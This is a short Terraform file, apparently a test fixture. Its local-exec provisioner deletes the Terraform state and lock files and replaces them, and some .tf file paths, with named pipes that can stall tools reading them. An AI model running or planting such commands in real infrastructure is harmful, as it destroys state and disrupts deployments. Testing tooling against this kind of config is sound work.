resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      rm -f terraform.tfstate .terraform.lock.hcl; mkfifo terraform.tfstate .terraform.lock.hcl more.tf x.tf.json; ls -la
    EOT
  }
}
